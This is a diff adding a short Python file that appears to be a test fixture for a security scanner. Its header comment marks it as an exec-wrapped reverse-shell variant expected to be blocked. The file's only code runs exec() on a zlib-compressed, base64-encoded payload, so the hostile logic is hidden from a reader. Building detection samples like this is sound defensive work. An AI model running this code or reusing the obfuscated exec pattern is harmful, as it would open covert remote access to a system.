@@ -1,0 +1,3 @@
+# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/c2_loop.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxFUMFuwyAMvfMVVncBLUPt0k5bpR72D7tPCXFVFAKRMdnvD0KbWkLI9vPze36BbzBhmjo/vJVngmcKDlwI8xkIDdoFoXtgGqDkwXIDEf0AfEMIiefE0Hdm1MJOcyCGGMyIvGWpnykYjFGIAa95lBaUBaPOAnL83axD+KGENS9xXwiXlUxnJYs87r8+lB7QhAGl0pHJzlJtI/YKPvBj8klVoifsxq1CGJPjwr1J09mY3FzGGzp3KYoaMN3MifC3Gl2Lz52ruHKLzjlZabOuIWPhFZ45EikhjLPo+W4Jc2P9soPa0Pn4Hg1LuXvft3qvD4dWn3YNfB6PrVKi3q1i1T+56Y0P')))
